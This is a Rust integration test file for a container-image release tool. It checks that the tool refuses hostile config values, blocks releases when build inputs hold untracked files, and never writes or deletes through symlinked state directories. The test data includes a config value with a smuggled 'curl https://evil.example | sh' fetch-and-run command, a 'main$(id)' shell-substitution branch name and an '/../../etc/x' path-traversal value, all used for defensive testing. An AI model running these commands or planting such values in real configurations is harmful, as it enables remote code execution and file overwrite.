//! A hostile or careless repository: config values that would land in a shell or fail late
//! are refused by `plan`, an untracked file among the build inputs makes a release refuse
//! (naming it), and a state directory that is a symbolic link is never written or deleted
//! through. With the real binary on real git repositories in temp dirs.

mod support;

use std::path::Path;

use support::*;

/// A workspace whose config is the default one plus `extra` appended, committed (tag
/// `v1.2.3` moved onto the commit, so it is a tag release).
fn workspace_with(extra: &str) -> Workspace {
    let ws = Workspace::new(&["127.0.0.1:1/demo".to_string()], &["app"], "");
    let config = std::fs::read_to_string(ws.path().join("images/release.toml")).unwrap();
    ws.write("images/release.toml", format!("{config}\n{extra}\n"));
    ws.commit("config");
    ws.git(&["tag", "-f", "v1.2.3"]);
    ws
}

/// `plan` and `ci generate` exit 1 naming `key` and `why`.
fn refused_at_plan(ws: &Workspace, key: &str, why: &str) {
    for cmd in [&["plan"][..], &["ci", "generate", "--out", "wf"][..]] {
        let out = ws.xtask(cmd, &[]);
        let text = output_text(&out);
        assert_eq!(out.status.code(), Some(1), "{cmd:?}: {text}");
        assert!(text.contains(key), "{cmd:?}: {key} not named: {text}");
        assert!(text.contains(why), "{cmd:?}: {why:?} not said: {text}");
        assert!(!text.contains("panicked"), "{text}");
    }
    assert!(!ws.path().join("wf").exists(), "no workflow was written");
}

#[test]
fn a_bad_native_target_is_refused_at_plan() {
    let ws = workspace_with(
        "[images.svc]\nnative = { cargo-bin = \"svc\", targets = { \"linux/amd64\" = \
         \"x86_64-unknown-linux-gnu; curl https://evil.example | sh\" } }",
    );
    refused_at_plan(
        &ws,
        "images.svc.native.targets.\"linux/amd64\"",
        "is not a Rust target triple",
    );
}

#[test]
fn a_bad_default_branch_is_refused_at_plan() {
    for (branch, why) in [
        ("main branch", "it holds a space"),
        ("", "it is empty"),
        ("main..x", "`..`"),
        ("main$(id)", "a shell"),
    ] {
        let ws = Workspace::new(
            &["127.0.0.1:1/demo".to_string()],
            &["app"],
            &format!("default-branch = {branch:?}"),
        );
        refused_at_plan(&ws, "release.default-branch", why);
    }
}

#[test]
fn late_failing_image_values_are_refused_at_plan_naming_the_key() {
    for (image, key, why) in [
        (
            "native = { files = [{ src = \"files/hello.txt\", dst = \"/../../etc/x\" }] }",
            "images.bad.native.files[0].dst",
            "`..`",
        ),
        (
            "native = { files = [{ src = \"files/hello.txt\", dst = \"/x\" }] }\nstop-signal = \"SIGNOPE\"",
            "images.bad.stop-signal",
            "not a signal",
        ),
        (
            "native = { files = [{ src = \"files/hello.txt\", dst = \"/x\" }] }\nuser = \"root\\n\"",
            "images.bad.user",
            "not a user",
        ),
        (
            "native = { files = [{ src = \"files/hello.txt\", dst = \"/x\" }] }\nenv = { \"A=B\" = \"x\" }",
            "images.bad.env",
            "not a variable name",
        ),
        (
            "native = { files = [{ src = \"files/hello.txt\", dst = \"/x\" }] }\nbase = \"oci:/abs/path\"",
            "images.bad.base",
            "absolute path",
        ),
    ] {
        let ws = workspace_with(&format!("[images.bad]\n{image}"));
        let out = ws.xtask(&["plan"], &[]);
        let text = output_text(&out);
        assert_eq!(out.status.code(), Some(1), "{key}: {text}");
        assert!(text.contains(key), "{key}: {text}");
        assert!(text.contains(why), "{key}: {text}");
    }
}

#[test]
fn an_untracked_file_in_a_files_directory_makes_a_tag_release_refuse_naming_it() {
    let registry = have("docker-registry").then(Registry::plain);
    let prefix = match &registry {
        Some(r) => format!("{}/demo", r.host),
        None => {
            skipped("docker-registry is not installed: the release is checked without one");
            "127.0.0.1:1/demo".to_string()
        }
    };
    let ws = Workspace::new(&[prefix], &[], "");
    let config = std::fs::read_to_string(ws.path().join("images/release.toml")).unwrap();
    ws.write("site/index.html", "<h1>committed</h1>\n");
    ws.write(
        "images/release.toml",
        format!(
            "{config}\n[images.web]\nnative = {{ files = [{{ src = \"site/\", dst = \"/srv/\" }}] }}\n"
        ),
    );
    ws.write(".gitignore", "target/\n*.log\n");
    ws.commit("web");
    ws.git(&["tag", "-f", "v1.2.3"]);

    // An ignored file is no input: the tag release is clean.
    ws.write("site/debug.log", "ignored\n");
    let plan = plan_json(ws.path());
    assert_eq!(plan["git"]["dirty"], false, "{plan}");
    assert_eq!(plan["version"], "1.2.3");

    // An untracked one is: plan says dirty, release and push refuse, naming it.
    ws.write("site/evil.js", "steal()\n");
    ws.write("notes/todo.txt", "not an input of any image\n");
    let plan = plan_json(ws.path());
    assert_eq!(plan["git"]["dirty"], true, "{plan}");
    assert_eq!(plan["version"], "1.2.3-dirty");
    let changed = plan["git"]["changed_files"].to_string();
    assert!(changed.contains("site/evil.js"), "{plan}");
    assert!(!changed.contains("todo.txt"), "{plan}");
    for cmd in [&["release"][..], &["push"][..]] {
        let out = ws.xtask(cmd, &[]);
        let text = output_text(&out);
        assert_eq!(out.status.code(), Some(1), "{cmd:?}: {text}");
        assert!(text.contains("untracked files"), "{cmd:?}: {text}");
        assert!(text.contains("site/evil.js"), "{cmd:?}: {text}");
        assert!(!text.contains("todo.txt"), "{cmd:?}: {text}");
        assert!(text.contains(".gitignore"), "{cmd:?}: {text}");
        assert!(text.contains("--allow-dirty"), "{cmd:?}: {text}");
    }
    if let Some(registry) = &registry {
        assert!(registry.tags("demo/web").is_empty(), "nothing was pushed");
    }
    // Committed, it is part of the release.
    ws.commit("evil.js is reviewed now");
    ws.git(&["tag", "-f", "v1.2.3"]);
    let plan = plan_json(ws.path());
    assert_eq!(plan["git"]["dirty"], false, "{plan}");
}

#[test]
fn an_untracked_file_in_a_dockerfile_context_makes_the_tree_dirty() {
    let ws = workspace_with("[images.api]\ndockerfile = \"api/Dockerfile\"\ncontext = \"api\"");
    ws.write("api/Dockerfile", "FROM scratch\nCOPY . /\n");
    ws.commit("api");
    ws.git(&["tag", "-f", "v1.2.3"]);
    assert_eq!(plan_json(ws.path())["git"]["dirty"], false);
    ws.write("api/extra/payload.bin", "x");
    let plan = plan_json(ws.path());
    assert_eq!(plan["git"]["dirty"], true, "{plan}");
    assert!(
        plan["git"]["changed_files"]
            .to_string()
            .contains("api/extra/payload.bin"),
        "{plan}"
    );
}

fn plan_json(dir: &Path) -> serde_json::Value {
    let out = xtask(dir, &["plan", "--json"], &[]);
    assert_ok(&out);
    serde_json::from_slice(&out.stdout).unwrap()
}

/// A temp dir standing for what lies outside the workspace, with a canary file in every
/// directory `clean` removes.
fn outside_with_canaries() -> tempfile::TempDir {
    let outside = tempfile::tempdir().unwrap();
    for d in ["", "tmp", "cache", "buildx-cache", "oci"] {
        std::fs::create_dir_all(outside.path().join(d)).unwrap();
        std::fs::write(outside.path().join(d).join("canary"), "alive\n").unwrap();
    }
    outside
}

fn assert_canaries_alive(outside: &Path, what: &str) {
    for d in ["", "tmp", "cache", "buildx-cache", "oci"] {
        assert!(
            outside.join(d).join("canary").is_file(),
            "{what}: {d}/canary was deleted"
        );
    }
    let mut names: Vec<String> = std::fs::read_dir(outside.join("oci"))
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    assert_eq!(names, ["canary"], "{what}: something was written there");
}

#[test]
fn clean_through_a_symlinked_state_directory_deletes_nothing_outside() {
    let outside = outside_with_canaries();
    let ws = Workspace::new(&["127.0.0.1:1/demo".to_string()], &["app"], "");
    std::fs::create_dir_all(ws.path().join("target")).unwrap();
    std::os::unix::fs::symlink(outside.path(), ws.path().join("target/stevedore")).unwrap();
    // Committed, as an attacker with push access would.
    ws.git(&["add", "-f", "target/stevedore"]);
    ws.commit("state dir");
    ws.git(&["tag", "-f", "v1.2.3"]);
    for cmd in [
        &["clean"][..],
        &["clean", "--all"][..],
        &["build"][..],
        &["release", "--dry-run"][..],
    ] {
        let out = ws.xtask(cmd, &[]);
        let text = output_text(&out);
        assert_eq!(out.status.code(), Some(1), "{cmd:?}: {text}");
        assert!(
            text.contains("target/stevedore is a symbolic link"),
            "{cmd:?}: {text}"
        );
        assert!(text.contains("rm target/stevedore"), "{cmd:?}: {text}");
        assert_canaries_alive(outside.path(), &format!("{cmd:?}"));
    }
    assert!(
        ws.path().join("target/stevedore").is_symlink(),
        "not even the link itself was touched"
    );
}

#[test]
fn build_through_a_symlinked_layout_or_target_writes_nothing_outside() {
    let outside = outside_with_canaries();
    for link in ["target/stevedore/oci", "target"] {
        let ws = Workspace::new(&["127.0.0.1:1/demo".to_string()], &["app"], "");
        let at = ws.path().join(link);
        std::fs::create_dir_all(at.parent().unwrap()).unwrap();
        let to = if link == "target" {
            outside.path().to_path_buf()
        } else {
            outside.path().join("oci")
        };
        std::os::unix::fs::symlink(&to, &at).unwrap();
        for cmd in [&["build"][..], &["clean", "--all"][..]] {
            let out = ws.xtask(cmd, &[]);
            let text = output_text(&out);
            assert_eq!(out.status.code(), Some(1), "{link} {cmd:?}: {text}");
            assert!(
                text.contains(&format!("{link} is a symbolic link")),
                "{link} {cmd:?}: {text}"
            );
            assert_canaries_alive(outside.path(), &format!("{link} {cmd:?}"));
        }
    }
}

#[test]
fn a_real_state_directory_is_cleaned_as_before() {
    let ws = Workspace::new(&["127.0.0.1:1/demo".to_string()], &["app"], "");
    std::fs::create_dir_all(ws.path().join("target/stevedore/tmp/x")).unwrap();
    let out = ws.xtask(&["clean"], &[]);
    assert_ok(&out);
    assert!(!ws.path().join("target/stevedore/tmp").exists());
}
